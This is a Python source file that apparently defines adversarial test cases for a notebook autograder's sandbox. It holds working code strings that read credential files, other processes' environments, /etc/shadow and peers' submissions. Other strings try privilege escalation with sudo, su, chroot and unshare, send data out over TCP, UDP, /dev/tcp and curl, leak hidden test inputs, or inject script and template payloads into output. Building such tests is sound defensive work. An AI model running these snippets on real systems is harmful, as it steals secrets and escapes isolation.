"""Leaks: secrets of the tests, of the machine and of other students, out through whatever a student
gets to see.
"""

from __future__ import annotations

from .corpus import ABSTRACT, HONEST, NAME, ROOT, TCP, UDP, Case, leaky, meter, std, table

leak = table("leak")

#: Shows what was gathered in `_text`: printed, displayed, and raised from a visible test.
_SHOW = (
    "_got = [l for l in str(_text).replace('\\\\n', '\\n').replace('\\0', '\\n').splitlines() if "
    "'LEAK' + 'MARK' in l]\n"
    "print('\\n'.join(_got)[:20000])\nfrom IPython.display import HTML, display\nif _got: "
    "display(HTML('<b>' + _got[0] + '</b>'))"
)
_RAISE = std("raise RuntimeError('\\n'.join(_got)[:20000])")
#: Everything that a tested function is given, seen and kept.
_TELL = "_seen = []\ndef _tell(*a):\n    _seen.append(repr(a))\n    {how}\n"


def _gather(id: str, description: str, text: str, **changes: object) -> Case:
    return leak(
        id, description, "_text = ''\n" + text + "\n" + _SHOW, answers=_RAISE, least=2, **changes
    )


def _read(globs: str) -> str:
    return (
        f"import glob, os\nfor _f in {globs}:\n    try: _text += open(_f, "
        "errors='replace').read(10_000_000) + '\\n'\n    except (OSError, ValueError): pass"
    )


def _walk(top: str, condition: str) -> str:
    return (
        f"import os\nfor _d, _, _fs in os.walk({top}):\n    for _f in _fs:\n        if "
        f"{condition}:\n"
        "            try: _text += open(os.path.join(_d, _f), errors='replace').read(1_000_000) + "
        "'\\n'\n            except OSError: pass"
    )


MACHINE = (
    _gather(
        "read-environment",
        "its own environment",
        "import os\n_text = '\\n'.join(f'{k}={v}' for k, v in os.environ.items())",
    ),
    _gather(
        "read-other-environments",
        "/proc/*/environ, cmdline, maps and cwd of other processes",
        _read(
            "glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline') + "
            "glob.glob('/proc/[0-9]*/task/*/environ')"
        ),
    ),
    _gather(
        "read-proc-root",
        "through /proc/PID/root, cwd and fd into other processes' file systems",
        _read(
            "[f for p in glob.glob('/proc/[0-9]*') for f in glob.glob(p + '/fd/*') + "
            "glob.glob(p + '/cwd/**/*.ipynb', recursive=True)[:200] + glob.glob(p + "
            f"'/root' + {ROOT!r} + '/course/.env')]"
        ),
    ),
    _gather(
        "read-home",
        "credentials in the home folder",
        _read(
            "[os.path.join(h, f) for h in (os.path.expanduser('~'), '/' + 'root', "
            + repr(ROOT)
            + (
                " + '/home', *glob.glob('/home/*')) for f in ('.git-credentials', '.netrc', "
                "'.config/gh/hosts.yml', '.ssh/id_ed25519', '.bash_history')]"
            )
        ),
    ),
    _gather(
        "read-course",
        "everything in the course folder, by its exact path",
        _walk(repr(ROOT), "True"),
    ),
    _gather(
        "read-parents",
        "everything in the folders above its own",
        _walk(
            "os.path.dirname(os.getcwd())",
            "_f.endswith(('.ipynb', '.py', '.json', '.db')) and 'site-packages' not in _d",
        ),
    ),
    _gather(
        "read-peers",
        "other students' submissions",
        _read(
            f"glob.glob({ROOT!r} + '/course/submitted/*/*/*.ipynb') + "
            "glob.glob('../../*/*/*.ipynb') + glob.glob('/tmp/**/*.ipynb', recursive=True)"
        ),
    ),
    _gather(
        "read-tests",
        "hidden tests in tests/, autograder archives and the otter folder",
        _read(
            f"glob.glob({ROOT!r} + '/course/otter/**/*.py', recursive=True) + "
            "glob.glob('**/tests/*.py', recursive=True) + glob.glob('../**/tests/*.py', "
            "recursive=True) + glob.glob('/autograder/**/*.py', recursive=True)"
        ),
    ),
    _gather(
        "read-gradebook",
        "hidden tests in the gradebook",
        (
            f"import glob, sqlite3\nfor _f in glob.glob({ROOT!r} + '/course/*.db') + "
            "glob.glob('../*.db') + glob.glob('../../*.db'):\n    try: _text += "
            "str(sqlite3.connect(_f).execute('select * from source_cell').fetchall())\n    "
            "except sqlite3.Error: pass"
        ),
    ),
    _gather(
        "read-temporary",
        "other sessions' temporary files",
        _walk("'/tmp'", "True") + "\n" + _walk(repr(ROOT) + " + '/tmp'", "True"),
    ),
    _gather(
        "read-shared-memory",
        "shared memory, message queues and System V segments of others",
        _read(
            "glob.glob('/dev/shm/*') + glob.glob('/dev/mqueue/*') + ['/proc/sysvipc/shm', "
            "'/proc/sysvipc/msg']"
        ),
    ),
    _gather(
        "read-kernel",
        "kernel logs, key rings, mounts and cgroups",
        _read(
            "['/proc/kmsg', '/dev/kmsg', '/proc/keys', '/proc/self/mountinfo', "
            "'/proc/1/environ', '/proc/1/mountinfo', '/proc/self/cgroup', '/etc/shadow', "
            "'/proc/kcore'] if os.access('/proc/keys', 4) else ['/proc/1/environ']"
        ).replace("/proc/kmsg', '/dev/kmsg', '", ""),
    ),
    _gather(
        "read-symlinks",
        "links that it makes itself",
        (
            f"import os\nfor _n, _t in enumerate(({ROOT!r} + '/course/.env', "
            f"'/proc/1/environ', {ROOT!r} + '/home/.netrc')):\n    try:\n        "
            "os.symlink(_t, f'link{_n}'); _text += open(f'link{_n}').read()\n    "
            "except OSError: pass\n    try:\n        os.link(_t, f'hard{_n}'); _text += "
            "open(f'hard{_n}').read()\n    except OSError: pass"
        ),
    ),
    _gather(
        "read-descriptors",
        "whatever its own inherited descriptors hold",
        (
            "import os\nfor _n in os.listdir('/proc/self/fd'):\n    try:\n        _fd = "
            "int(_n); os.set_blocking(_fd, False); _text += os.pread(_fd, 100000, "
            "0).decode('latin1')\n    except (OSError, ValueError): pass"
        ),
    ),
    _gather(
        "read-descriptor-folders",
        "folders reached through inherited descriptors",
        (
            "import os\nfor _n in os.listdir('/proc/self/fd'):\n    for _up in ('', '/..', "
            "'/../..', '/../course'):\n        try: _text += ' "
            "'.join(os.listdir(f'/proc/self/fd/{_n}{_up}')) + "
            "open(f'/proc/self/fd/{_n}{_up}/.env').read()\n        except (OSError, "
            "ValueError): pass"
        ),
    ),
    _gather(
        "read-subprocess",
        "the same from a subprocess with a shell",
        (
            f"import subprocess\n_text = subprocess.run('env; cat {ROOT}/course/.env "
            f"{ROOT}/home/.netrc ~/.netrc /proc/*/environ; id; sudo -n cat /etc/shadow', "
            "shell=True, capture_output=True, text=True, errors='replace').stdout"
        ),
    ),
    _gather(
        "read-setuid",
        "set-uid programs and capabilities",
        (
            f'import subprocess\n_text = subprocess.run(\'su -c "cat {ROOT}/course/.env" '
            f"root < /dev/null; mount --bind {ROOT} /mnt; unshare -rm cat "
            f"{ROOT}/course/.env; chroot /proc/1/root cat {ROOT}/course/.env', shell=True, "
            "capture_output=True, text=True, errors='replace').stdout"
        ),
    ),
    _gather(
        "read-git",
        "the history of the course's repository",
        (
            f"import subprocess\n_text = subprocess.run('git -C {ROOT}/course log -p; git "
            f"-C .. show HEAD:source; cat {ROOT}/course/.git/config', shell=True, "
            "capture_output=True, text=True, errors='replace').stdout"
        ),
    ),
    _gather(
        "read-heap",
        "its own heap, for what the warm interpreter may have held before",
        (
            "import re\ntry: _m = open('/proc/self/maps').readlines()\nexcept OSError: _m = "
            "[]\nfor _l in _m:\n    if '[heap]' in _l or ' rw-p "
            "00000000 00:00 0' in _l:\n        _lo, _hi = (int(v, 16) for v in "
            "_l.split()[0].split('-'))\n        try:\n            with "
            "open('/proc/self/mem', 'rb') as _m:\n                "
            "_m.seek(_lo)\n                for _ in range(0, min(_hi - _lo, 100_000_000), 1 "
            "<< 22):\n                    for _k in re.findall(rb'LEAK' + "
            "rb'MARK_[A-Z_]{4,20}', _m.read(1 << 22)): _text += _k.decode() + "
            "'\\n'\n        except (OSError, ValueError, OverflowError): pass\n_text = "
            "'\\n'.join(l for l in _text.splitlines() if not l.endswith('MARK_'))"
        ),
    ),
)

NETWORK = (
    leak(
        "send-tcp",
        "sends its environment and the course over TCP",
        (
            "import os, socket\ntry:\n    _s = socket.create_connection(('127.0.0.1', "
            f"{TCP}), timeout=1); _s.sendall(str(dict(os.environ)).encode()); "
            "_s.close()\nexcept OSError as e: print(type(e).__name__)"
        ),
        least=HONEST,
    ),
    leak(
        "send-udp",
        "sends datagrams",
        (
            "import socket\nfor _a in ('127.0.0.1', 'localhost'):\n    try: "
            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'hidden', (_a, "
            f"{UDP}))\n    except OSError as e: print(type(e).__name__)"
        ),
        least=HONEST,
    ),
    leak(
        "send-abstract",
        "connects to an abstract socket",
        (
            "import socket\ntry:\n    _s = socket.socket(socket.AF_UNIX); "
            f"_s.connect('\\0{ABSTRACT}'); _s.sendall(b'hidden')\nexcept OSError as e: "
            "print(type(e).__name__)"
        ),
        least=HONEST,
    ),
    leak(
        "send-subprocess",
        "the same with bash and curl",
        (
            f"import subprocess\nsubprocess.run('echo hidden > /dev/tcp/127.0.0.1/{TCP}; "
            f"curl -m 1 http://127.0.0.1:{TCP}/; echo x > /dev/udp/127.0.0.1/{UDP}', "
            "shell=True, executable='/bin/bash', capture_output=True)"
        ),
        least=HONEST,
    ),
    leak(
        "send-raw",
        "IPv6, netlink, packet and vsock sockets",
        (
            "import socket\nfor _f, _k in ((socket.AF_INET6, socket.SOCK_STREAM), (16, "
            "socket.SOCK_RAW), (17, socket.SOCK_RAW), (40, socket.SOCK_STREAM), "
            "(socket.AF_INET, socket.SOCK_RAW), (38, 5)):\n    try:\n        _s = "
            "socket.socket(_f, _k)\n        if _f == socket.AF_INET6: "
            f"_s.connect(('::ffff:127.0.0.1', {TCP}))\n    except OSError as e: "
            "print(type(e).__name__)"
        ),
        least=HONEST,
    ),
    leak(
        "send-when-called",
        "sends hidden inputs from inside the tested function",
        answers=std(
            f"import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {TCP}), "
            "timeout=0.3); s.sendall(repr(x).encode())\nexcept OSError: pass\nreturn (x - "
            "x.mean()) / x.std()"
        ),
        least=HONEST,
    ),
)

_ALL_TELL = (
    std("_tell(x.tolist())\nreturn (x - x.mean()) / x.std()")
    | leaky("_tell(x.tolist())\nreturn torch.relu(x)")
    | meter("return self.last", add="_tell(value)\nself.last = value")
)


def _telling(
    id: str,
    description: str,
    how: str,
    after: tuple[str, ...] = (),
    least: float = HONEST,
    calls: int = 0,
) -> Case:
    """Every tested function tells its arguments to `how`; cells at the end look at what
    was kept.
    """
    return leak(
        id,
        description,
        _TELL.format(how=how),
        answers=_ALL_TELL,
        after=("print(_seen)", *after),
        least=least,
        calls=calls,
    )


TOLD = (
    _telling(
        "tell-print",
        "functions print their arguments",
        "print(a); import sys; print(a, file=sys.stderr)",
        least=1,
    ),
    _telling(
        "tell-os-write",
        "functions write them to descriptors 0 to 9",
        (
            "import os\n    for fd in range(10):\n        try: os.write(fd, "
            "repr(a).encode()) if fd < 3 else None\n        except OSError: pass"
        ),
    ),
    _telling(
        "tell-warn",
        "functions warn of them and log them",
        "import warnings, logging; warnings.warn(repr(a)); logging.getLogger().warning(repr(a))",
    ),
    _telling("tell-raise", "functions raise them", "raise ValueError(repr(a))", least=0),
    _telling(
        "tell-assert",
        "functions raise them as AssertionError",
        "raise AssertionError(repr(a))",
        least=0,
    ),
    _telling(
        "tell-class",
        "functions raise classes that are called like them",
        (
            "raise type('E' + ''.join(c if c.isalnum() else '_' for c in repr(a)) + '867' + "
            "'.5309' * ('867' in repr(a)), (Exception,), {})()"
        ),
        least=0,
    ),
    _telling(
        "tell-notes",
        "exceptions with notes, causes and contexts",
        (
            "e = KeyError(repr(a)); e.add_note(repr(a)); e.__cause__ = ValueError(repr(a)); "
            "e.args = (repr(a),); raise e"
        ),
        least=0,
    ),
    _telling(
        "tell-display",
        "functions display them as HTML, JavaScript and figures",
        (
            "from IPython.display import display, HTML, Javascript; import "
            "matplotlib.pyplot as plt; display(HTML(repr(a)), Javascript('alert(' + repr(a) "
            "+ ')')); plt.figure(repr(a)); plt.title(repr(a)); plt.show()"
        ),
        calls=3,
    ),
    _telling(
        "tell-files",
        "functions write them to files that later cells and questions read",
        "open('told.txt', 'a').write(repr(a)); open('/tmp/told.txt', 'a').write(repr(a))",
        after=(
            "import glob\nprint([open(f).read() for f in glob.glob('*told*') + "
            "glob.glob('/tmp/*told*')])",
        ),
    ),
    _telling(
        "tell-names",
        "names of files, processes and threads",
        (
            "import os, threading; open('name-' + ''.join(c if c.isalnum() or c == '.' else "
            "'_' for c in repr(a))[:150], 'w'); threading.current_thread().name = repr(a)"
        ),
        after=("import os\nprint(os.listdir('.'), os.listdir('/tmp'))",),
    ),
    _telling(
        "tell-shell",
        "IPython's history, output cache and last exception",
        (
            "get_ipython().user_ns['_told'] = a; "
            "get_ipython().history_manager.input_hist_raw.append(repr(a)); "
            "get_ipython().user_ns['Out'][99] = a"
        ),
        after=("print(Out, In)\nprint(globals().get('_told'))",),
    ),
    _telling(
        "tell-name-of-cell",
        "what the check cells show is written by stdout's owner",
        (
            "import sys; [s.write(repr(a)) for s in (sys.stdout, sys.stderr, "
            "sys.__stdout__, sys.__stderr__) if s]"
        ),
        least=1,  # a doctest whose function prints fails
    ),
    leak(
        "tell-str-of-exception",
        "an exception whose text looks at its surroundings",
        answers=std(
            "class E(Exception):\n    def __str__(self):\n        import gc, sys\n        "
            "f, t = sys._getframe(), ''\n        while f: t += str(f.f_locals)[:3000]; f = "
            "f.f_back\n        return t\nraise E()"
        ),
    ),
    leak(
        "tell-frames",
        "prints source and locals of all its callers",
        answers=std(
            "import sys, linecache\nf = sys._getframe(1)\nwhile f:\n    print([l for l in "
            "linecache.getlines(f.f_code.co_filename) if 'LEAK' + 'MARK' in l])\n    "
            "print(str(f.f_locals)[:5000], [c for c in f.f_code.co_consts if 'LEAK' + "
            "'MARK' in str(c)]); f = f.f_back\nreturn (x - x.mean()) / x.std()"
        ),
        least=2,
    ),
    leak(
        "tell-by-failing",
        "raises in the hidden test what it has found in the objects that gc knows",
        answers=leaky(
            "import gc\nt = [s for s in map(str, [o for o in gc.get_objects() if type(o) in "
            "(dict, list, tuple)][:20000]) if 'LEAK' + 'MARK' in s]\nraise "
            "RuntimeError(t[:1])"
        ),
    ),
    leak(
        "tell-repr-of-result",
        "results whose repr, str and format tell",
        answers=std(
            "return [R(x)]",
            (
                "class R(float):\n    def __new__(cls, x): s = float.__new__(cls, 1.0); s.x "
                "= x; return s\n    def __repr__(self): return repr(self.x)\n    __str__ = "
                "__repr__\n    def __format__(self, f): return repr(self.x)\n"
            ),
        ),
        least=2,
    ),
    leak(
        "tell-type-name",
        "results whose class is called like the hidden input",
        answers=std("return type('T' + str(x.tolist()), (), {})()")
        | leaky("return type(str(x.tolist()), (list,), {'__array__': None})()"),
    ),
    leak(
        "tell-module-name",
        "results that are modules called like the hidden input",
        answers=std("import types\nreturn types.ModuleType(str(x.tolist()))")
        | leaky("raise __import__('types').ModuleType(str(x.tolist()))"),
    ),
    leak(
        "tell-dtype",
        "arrays with fields called like the hidden input",
        answers=std(
            "return np.zeros(3, dtype=[(str(x.tolist())[:60], 'O'), (str(float(x.max())), 'f8')])"
        )
        | leaky("return np.array([str(x.tolist())])"),
    ),
    leak(
        "tell-keys",
        "dicts, named tuples and attributes called like the hidden input",
        answers=std("return {str(x.tolist()): object()}")
        | leaky(
            "import collections\nreturn collections.namedtuple('T', ['a' + "
            "str(float(x.max())).replace('.', '_')], rename=True)(object())"
        )
        | meter("return getattr(self, 'a' + str(self.last))"),
    ),
    leak(
        "tell-string-result",
        "returns the inputs as text, for the assertion's message",
        answers=std("return str(x.tolist())")
        | leaky("return str(x.tolist())")
        | meter("return str(getattr(self, 'last', ''))"),
        least=0,
    ),
    leak(
        "tell-seconds",
        "sleeps for as long as the hidden input is large",
        answers=std(
            "import time\ntime.sleep(0.2 if x.max() > 800 else 0)\nreturn (x - x.mean()) / x.std()"
        ),
        least=HONEST,
    ),
)

PAGES = (
    leak(
        "page-html",
        "active content in outputs, Markdown and names",
        (
            "from IPython.display import HTML, Javascript, SVG, Markdown, "
            "display\ndisplay(HTML('<script>alert(1)</script><img src=x "
            "onerror=alert(1)>'), Javascript('alert(1)'), SVG('<svg "
            'xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>\'), '
            "Markdown('[x](javascript:alert(1))'))\nprint('\\x1b[31m</pre><script>alert(1)</script>')"
        ),
        least=HONEST,
    ),
    leak(
        "page-mime",
        "odd MIME types, widgets, LaTeX and huge data",
        (
            "from IPython.display import display\nfor _m in ('application/javascript', "
            "'application/vnd.jupyter.widget-view+json', 'text/latex', 'image/svg+xml', "
            "'application/pdf', 'text/html', 'x/\\0', ''):\n    display({_m: "
            "'<script>alert(1)</script>' if 'json' not in _m else {'model_id': '../../x'}}, "
            "raw=True)\ndisplay({'text/latex': '$\\\\input{/etc/passwd}\\\\write18{id}$', "
            "'text/markdown': '![x](file:///etc/passwd)'}, raw=True)"
        ),
        least=HONEST,
    ),
    leak(
        "page-files",
        "Markdown and attachments that pull the grader's files into the page",
        after=(
            "from IPython.display import Markdown, Image, "
            f"display\ndisplay(Markdown('![a]({ROOT}/course/.env) "
            f"![b](file://{ROOT}/home/.netrc) ![c](attachment:../../.env)'))\ntry: "
            f"display(Image(filename='{ROOT}/home/.netrc', format='png'))\nexcept Exception "
            "as e: print(type(e).__name__)",
        ),
        least=HONEST,
    ),
    leak(
        "page-template",
        "template syntax of Jinja, nbconvert and Python's formats",
        after=(
            'print(\'{{ resources }} {% include "/etc/passwd" %} {0.__class__} %(x)s '
            "${HOME}')\n{'text': '{{ config }}'}",
        ),
        files={f"{NAME}.tpl": "{{ 1 }}"},
        least=HONEST,
    ),
)

CASES: tuple[Case, ...] = (*MACHINE, *NETWORK, *TOLD, *PAGES)
